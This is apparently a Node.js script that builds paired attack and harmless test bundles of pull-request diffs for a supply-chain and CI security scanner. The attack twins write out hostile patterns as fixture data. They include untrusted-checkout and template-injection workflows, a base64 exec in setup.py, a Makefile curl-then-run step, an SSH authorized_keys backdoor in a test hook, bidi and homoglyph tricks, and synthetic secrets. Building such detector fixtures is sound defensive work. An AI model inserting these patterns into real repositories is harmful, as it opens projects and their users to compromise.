#!/usr/bin/env node
/**
 * Builds the project-owned bundles of issue #32's signal classes (tests/bundles/README.md,
 * "Signals on real-world shapes"): for each class an attack and its harmless twin, side by side.
 * Each starts from `approved-on-head-steady-author.json` (an established contributor's two-file
 * fix, approved on its head commit, checks green) and adds the one file (or hunk) its case needs,
 * so the case is the only difference between a twin and the harmless base. The shapes are the
 * ones the issue describes; the files are written here, not copied from anywhere.
 * Deterministic: the same bytes on every run.
 *
 *   node tests/project_bundles/signals-bundles.mjs        (rewrites tests/bundles/signals-*.json)
 */
import fs from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";

const BUNDLES = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../bundles");
const base = () => JSON.parse(fs.readFileSync(path.join(BUNDLES, "approved-on-head-steady-author.json"), "utf8"));

/** A new file holding `lines`. */
function added(filename, lines) {
  const patch = `@@ -0,0 +1,${lines.length} @@\n${lines.map((line) => `+${line}`).join("\n")}`;
  return { filename, status: "added", additions: lines.length, deletions: 0, changes: lines.length, patch };
}

/** A changed file: `hunk` lines start with " ", "+" or "-"; the header is computed. */
function modified(filename, start, hunk, section = "") {
  const additions = hunk.filter((line) => line.startsWith("+")).length;
  const deletions = hunk.filter((line) => line.startsWith("-")).length;
  const oldCount = hunk.length - additions;
  const newCount = hunk.length - deletions;
  const patch = `@@ -${start},${oldCount} +${start},${newCount} @@${section ? ` ${section}` : ""}\n${hunk.join("\n")}`;
  return { filename, status: "modified", additions, deletions, changes: additions + deletions, patch };
}

/** The harmless base PR plus `files`, numbered `number`. */
function pr(number, title, files) {
  const bundle = base();
  const pull = bundle.pull;
  const all = [...bundle.files, ...files.map((file) => ({ sha: "0".repeat(40), ...file }))];
  Object.assign(pull, {
    number,
    title,
    html_url: `https://github.com/tidewater/harbor-client/pull/${number}`,
    url: `https://api.github.com/repos/tidewater/harbor-client/pulls/${number}`,
    additions: all.reduce((sum, file) => sum + file.additions, 0),
    deletions: all.reduce((sum, file) => sum + file.deletions, 0),
    changed_files: all.length,
  });
  bundle.files = all;
  return bundle;
}

const SHA = "11bd71901bbe5b1630ceea73d27597364c9af683";
const NODE_SHA = "49933ea5288caeca8642d1e84afbd3f7d6820020";
const UPLOAD_SHA = "ea165f8d65b6e75b540449e92b4886f43607fa02";

/** A PEM private key with synthetic material (deterministic; no real key). */
function pem() {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  let state = 7;
  const line = () => Array.from({ length: 64 }, () => {
    state = (state * 1103515245 + 12345) % 2147483648;
    return alphabet[state % 64];
  }).join("");
  const marker = ["PRIVATE", "KEY"].join(" ");
  return [`-----BEGIN RSA ${marker}-----`, line(), line(), line(), `-----END RSA ${marker}-----`];
}

/** A whole workflow file. */
const workflow = (name, lines) => added(`.github/workflows/${name}.yml`, lines);

const cases = {
  // Item 2: the untrusted-checkout family.
  "pwn-git-fetch": [
    workflow("preview", [
      "on:", "  pull_request_target:", "permissions:", "  contents: read", "jobs:", "  preview:", "    runs-on: ubuntu-latest",
      "    steps:", `      - uses: actions/checkout@${SHA}`, "        with:", "          persist-credentials: false",
      "      - run: |", "          git fetch origin pull/${{ github.event.number }}/head:pr", "          git checkout pr", "          make preview",
    ]),
    workflow("preview", [
      "on:", "  pull_request:", "permissions:", "  contents: read", "jobs:", "  preview:", "    runs-on: ubuntu-latest",
      "    steps:", `      - uses: actions/checkout@${SHA}`, "        with:", "          persist-credentials: false",
      "      - run: |", "          git fetch origin pull/${{ github.event.number }}/head:pr", "          git checkout pr", "          make preview",
    ]),
  ],
  "issue-comment-checkout": [
    workflow("bench", [
      "on:", "  issue_comment:", "    types: [created]", "permissions:", "  contents: read", "jobs:", "  bench:", "    runs-on: ubuntu-latest",
      "    steps:", `      - uses: actions/checkout@${SHA}`, "        with:", "          persist-credentials: false",
      "      - run: gh pr checkout ${{ github.event.issue.number }}", "        env:", "          GH_TOKEN: ${{ github.token }}",
      "      - run: ./scripts/bench.sh",
    ]),
    workflow("bench", [
      "on:", "  issue_comment:", "    types: [created]", "permissions:", "  contents: read", "jobs:", "  bench:", "    runs-on: ubuntu-latest",
      "    steps:", `      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea`, "        with:",
      "          script: |", "            await github.rest.reactions.createForIssueComment({", "              owner: context.repo.owner, repo: context.repo.repo,",
      "              comment_id: ${{ github.event.comment.id }}, content: 'eyes' })",
    ]),
  ],
  "workflow-run-artifact": [
    modified(".github/workflows/report.yml", 1, [
      " on:", "   workflow_run:", "     workflows: [ci]", "     types: [completed]", " jobs:", "   report:", "     runs-on: ubuntu-latest", "     steps:",
      "+      - uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093", "+        with:", "+          name: coverage",
      "+          run-id: ${{ github.event.workflow_run.id }}", "+          github-token: ${{ github.token }}", "+      - run: bash ./coverage/upload.sh",
    ]),
    modified(".github/workflows/report.yml", 1, [
      " on:", "   workflow_run:", "     workflows: [ci]", "     types: [completed]", " jobs:", "   report:", "     runs-on: ubuntu-latest", "     steps:",
      "+      - uses: actions/download-artifact@d3f86a106a0bac45b974a628896c90dbdf5c8093", "+        with:", "+          name: coverage",
      "+          run-id: ${{ github.event.workflow_run.id }}", "+          github-token: ${{ github.token }}", "+      - run: cat ./coverage/summary.txt >> \"$GITHUB_STEP_SUMMARY\"",
    ]),
  ],
  "template-injection": [
    modified(".github/workflows/ci.yml", 20, [
      "     steps:", `       - uses: actions/checkout@${SHA}`, "+      - run: echo \"Testing ${{ github.event.pull_request.title }}\"", "       - run: make test",
    ]),
    modified(".github/workflows/ci.yml", 20, [
      "     steps:", `       - uses: actions/checkout@${SHA}`,
      "+      - run: echo \"Testing ${{ github.event.pull_request.head.sha }} of #${{ github.event.pull_request.number }} (fork: ${{ github.event.pull_request.head.repo.fork }})\"",
      "       - run: make test",
    ]),
  ],
  permissions: [
    modified(".github/workflows/ci.yml", 1, [" on: [push, pull_request]", "-permissions: {}", "+permissions:", "+  contents: write", " jobs:", "   test:"]),
    modified(".github/workflows/release.yml", 12, [
      "   publish:", "     runs-on: ubuntu-latest", "     permissions:", "+      id-token: write", "     steps:",
    ]),
  ],
  "cache-poisoning": [
    workflow("release", [
      "on:", "  release:", "    types: [published]", "permissions:", "  contents: read", "jobs:", "  publish:", "    runs-on: ubuntu-latest", "    permissions:", "      id-token: write",
      "    steps:", `      - uses: actions/checkout@${SHA}`, "        with:", "          persist-credentials: false",
      `      - uses: actions/setup-node@${NODE_SHA}`, "        with:", "          node-version: 22", "          cache: npm", "      - run: npm ci && npm publish --provenance",
    ]),
    workflow("release", [
      "on:", "  release:", "    types: [published]", "permissions:", "  contents: read", "jobs:", "  publish:", "    runs-on: ubuntu-latest", "    permissions:", "      id-token: write",
      "    steps:", `      - uses: actions/checkout@${SHA}`, "        with:", "          persist-credentials: false",
      `      - uses: actions/setup-node@${NODE_SHA}`, "        with:", "          node-version: 22", "      - run: npm ci && npm publish --provenance",
    ]),
  ],
  artipacked: [
    modified(".github/workflows/docs.yml", 10, [
      "     steps:", `+      - uses: actions/checkout@${SHA}`, `+      - uses: actions/upload-artifact@${UPLOAD_SHA}`, "+        with:", "+          name: site", "+          path: .",
    ]),
    modified(".github/workflows/docs.yml", 10, [
      "     steps:", `+      - uses: actions/checkout@${SHA}`, "+        with:", "+          persist-credentials: false", `+      - uses: actions/upload-artifact@${UPLOAD_SHA}`, "+        with:", "+          name: site", "+          path: site/",
    ]),
  ],
  "unpinned-action": [
    modified(".github/workflows/ci.yml", 20, ["     steps:", `       - uses: actions/checkout@${SHA}`, "+      - uses: someone/setup-tool@main"]),
    modified(".github/workflows/ci.yml", 20, ["     steps:", "-      - uses: actions/setup-python@v5", "+      - uses: actions/setup-python@v6"]),
  ],
  // Item 3: hidden text with context.
  "trojan-source": [
    modified("harbor/roles.py", 8, [
      " def is_admin(user):", "-    return user.role == \"admin\"", "+    return user.role == \"admin\u202E \u2066# user is admin\u2069 \u2066\"",
    ]),
    added("harbor/locales/he/messages.json", [
      "{", "  \"save\": \"\u05E9\u05DE\u05D5\u05E8\u200F\",", "  \"greeting\": \"\u05E9\u05DC\u05D5\u05DD, \u2068{name}\u2069!\",",
      "  \"fa_next\": \"\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645\",", "  \"family\": \"\uD83D\uDC69\u200D\uD83D\uDC67\"", "}",
    ]),
  ],
  // Item 4: secrets like a scanner.
  "env-file-secret": [
    added("deploy/.env.production", ["DB_HOST=db.internal", "DB_USER=harbor", "DB_PASSWORD=Tr0ub4dor&3harbor", "LOG_LEVEL=info"]),
    added("deploy/.env.example", ["DB_HOST=localhost", "DB_USER=harbor", "DB_PASSWORD=changeme", "STRIPE_KEY=sk_live_<your-key-here>"]),
  ],
  "generic-secret": [
    modified("harbor/upstream.py", 30, [" # upstream API", "+UPSTREAM_CLIENT_SECRET = \"Zq8Xk2LmN4pR7tV9wB1cD3fG5hJ6kM0n\"", " TIMEOUT = 30"]),
    modified("harbor/upstream.py", 30, [
      " # upstream API", "+UPSTREAM_API_VERSION = \"2024-06-01.preview-3\"", "+UPSTREAM_PUBLIC_KEY = \"9Cnzj4p4WGeKLs1Pt8QuKUpRKfFLfRYC9AIKjbJTWit\"",
      "+UPSTREAM_TOKEN = os.environ[\"UPSTREAM_TOKEN\"]", " TIMEOUT = 30",
    ]),
  ],
  // Item 5: install- and build-time code in every ecosystem.
  "inline-lifecycle": [
    modified("package.json", 4, ["   \"version\": \"2.3.0\",", "-  \"scripts\": {\"test\": \"jest\"},", "+  \"scripts\": {\"test\": \"jest\", \"postinstall\": \"node ./tools/telemetry.js\"},"]),
    modified("package.json", 4, ["   \"version\": \"2.3.0\",", "-  \"scripts\": {\"test\": \"jest\"},", "+  \"scripts\": {\"test\": \"jest\", \"prepare\": \"husky\"},"]),
  ],
  "in-tree-backend": [
    modified("pyproject.toml", 1, [" [build-system]", " requires = [\"setuptools>=68\"]", "-build-backend = \"setuptools.build_meta\"", "+build-backend = \"harbor_build\"", "+backend-path = [\"_build\"]"]),
    modified("pyproject.toml", 1, [" [build-system]", "-requires = [\"setuptools>=61\"]", "+requires = [\"setuptools>=68\"]", " build-backend = \"setuptools.build_meta\""]),
  ],
  "setup-py-exec": [
    modified("setup.py", 1, [" from setuptools import setup", "+import base64", "+exec(base64.b64decode(open('harbor/_meta.b64').read()))", " setup(name=\"harbor-client\")"]),
    modified("setup.py", 1, [" from setuptools import setup", "+about = {}", "+exec(open(\"harbor/__version__.py\").read(), about)", " setup(name=\"harbor-client\", version=about[\"__version__\"])"]),
  ],
  "makefile-download-run": [
    modified("Makefile", 10, [" tools:", "+\tcurl -fsSLo /tmp/lint.sh https://tools.example.net/lint.sh", "+\tsh /tmp/lint.sh --install"]),
    modified("Makefile", 10, [" fixtures:", "+\tcurl -fsSLo tests/fixtures/zones.json https://data.example.net/zones.json"]),
  ],
  "dist-without-source": [
    modified("dist/index.js", 1200, ["   const core = require(\"@actions/core\");", "-  const url = core.getInput(\"url\");", "+  const url = core.getInput(\"url\") || \"https://collect.example.net/\";"]),
    [
      modified("dist/index.js", 1200, ["   const core = require(\"@actions/core\");", "-  const url = core.getInput(\"url\");", "+  const url = core.getInput(\"url\").trim();"]),
      modified("src/main.ts", 12, ["   const core = require(\"@actions/core\");", "-  const url = core.getInput(\"url\");", "+  const url = core.getInput(\"url\").trim();"]),
    ],
  ],
  "minified-in-source": [
    modified("harbor/static_src/upload.js", 1, [" export function upload(file) {", `+${"var a=function(b,c){return b.map(function(d){return d*c})};".repeat(12)}`]),
    added("public/vendor/chart.min.js", [`${"var a=function(b,c){return b.map(function(d){return d*c})};".repeat(12)}`]),
  ],
  "lockfile-integrity-swap": [
    modified("package-lock.json", 410, [
      "     \"node_modules/left-pad\": {", "       \"version\": \"1.3.0\",", "       \"resolved\": \"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\",",
      "-      \"integrity\": \"sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQC+6K3DNEdaPIePK0rXnvaPaCXqIvOb2u4bI+tSCFvHrFBw==\",",
      "+      \"integrity\": \"sha512-Zq8Xk2LmN4pR7tV9wB1cD3fG5hJ6kM0nQaSdZq8Xk2LmN4pR7tV9wB1cD3fG5hJ6kM0nQaSdZq8Xk2LmN4pR7w==\",",
    ]),
    modified("package-lock.json", 410, [
      "     \"node_modules/left-pad\": {", "-      \"version\": \"1.2.0\",", "+      \"version\": \"1.3.0\",",
      "-      \"resolved\": \"https://registry.npmjs.org/left-pad/-/left-pad-1.2.0.tgz\",", "+      \"resolved\": \"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz\",",
      "-      \"integrity\": \"sha512-Zq8Xk2LmN4pR7tV9wB1cD3fG5hJ6kM0nQaSdZq8Xk2LmN4pR7tV9wB1cD3fG5hJ6kM0nQaSdZq8Xk2LmN4pR7w==\",",
      "+      \"integrity\": \"sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQC+6K3DNEdaPIePK0rXnvaPaCXqIvOb2u4bI+tSCFvHrFBw==\",",
    ]),
  ],
  "test-writes-home": [
    modified("tests/conftest.py", 1, [" import os", "+def pytest_sessionstart(session):", "+    with open(os.path.expanduser(\"~/.ssh/authorized_keys\"), \"a\") as keys:", "+        keys.write(SESSION_KEY)"]),
    modified("tests/conftest.py", 1, [" import os", "+def pytest_sessionstart(session):", "+    with open(os.path.join(session.config.rootpath, \".pytest_cache\", \"seed\"), \"w\") as seed:", "+        seed.write(\"42\")"]),
  ],
  // Calibration (docs/calibration.md, "The judged top 20"): findings on test data and on
  // contexts nobody outside can fill, each beside the attack its rule exists for.
  "test-fixture-key": [
    added("deploy/tls/server.key", pem()),
    added("tests/testdata/tls/server.key", pem()),
  ],
  "test-code-token": [
    modified("bindings/src/headers.rs", 40, [" impl Client {", "+    pub fn bearer() -> Bearer {", "+        Bearer { token: \"fpKL54jvWmEGVoRdCNjG\".to_owned() }", "+    }"], "impl Client {"),
    [
      modified("bindings/src/headers.rs", 12, [" /// # Example", "+///     Bearer { token: \"QWxhZGRpbjpvcGVuIHNlc2FtZQ\".to_owned() }"]),
      modified("bindings/src/headers.rs", 240, ["     #[test]", "     fn bearer_round_trips() {", "+        let auth = Bearer { token: \"fpKL54jvWmEGVoRdCNjG\".to_owned() };", "+        assert_eq!(auth.token, \"fpKL54jvWmEGVoRdCNjG\");"], "mod tests {"),
    ],
  ],
  "pr-object-injection": [
    modified(".github/workflows/ci.yml", 20, [
      "     steps:", `       - uses: actions/checkout@${SHA}`, "+      - run: echo '${{ toJSON(github.event.pull_request) }}' > pr.json", "       - run: make test",
    ]),
    modified(".github/workflows/ci.yml", 20, [
      "     steps:", `       - uses: actions/checkout@${SHA}`,
      "+      - run: |",
      "+          LINK=\"$(if [ \"${{ github.event.pull_request }}\" != \"\" ]; then echo \"${{ github.event.pull_request.html_url }}\"; else echo \"${{ github.event.compare }}\"; fi)\"",
      "+          echo \"Results for $LINK\"",
      "       - run: make test",
    ]),
  ],
  "look-alike-test-string": [
    modified("harbor/roles.py", 8, [" def is_admin(user):", "-    return user.role == \"admin\"", "+    return user.role == \"\u0430dmin\""]),
    modified("tests/test_hosts.py", 8, [" def test_idn_host(environ):", "+    environ[\"HTTP_HOST\"] = \"\u0105\u015B\u017A\u00E4\u00FC\u0436\u0160\u00DF\u044F.com\""]),
  ],
};

let number = 601;
for (const [name, [attack, benign]] of Object.entries(cases)) {
  for (const [side, file] of [["attack", attack], ["benign", benign]]) {
    const bundle = pr(number, `signals ${name} (${side})`, Array.isArray(file) ? file : [file]);
    number += 1;
    fs.writeFileSync(path.join(BUNDLES, `signals-${name}-${side}.json`), `${JSON.stringify(bundle, null, 2)}\n`);
  }
}
